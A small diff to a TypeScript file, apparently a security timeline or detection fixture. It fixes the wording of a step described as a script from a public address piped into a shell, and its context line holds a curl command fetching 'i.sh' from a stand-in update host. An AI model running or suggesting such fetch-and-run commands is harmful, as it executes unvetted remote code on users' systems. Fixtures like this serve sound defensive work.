@@ -19,7 +19,7 @@ const entry: TimelineStep[] = [
   },
   {
     type: 'process_exec',
-    info: 'script of a public address piped into a shell',
+    info: 'script from a public address piped into a shell',
     fields: ['comm', 'command_line', 'pwd'],
     command: 'curl -fsSL http://updates.example.com/i.sh',
   },
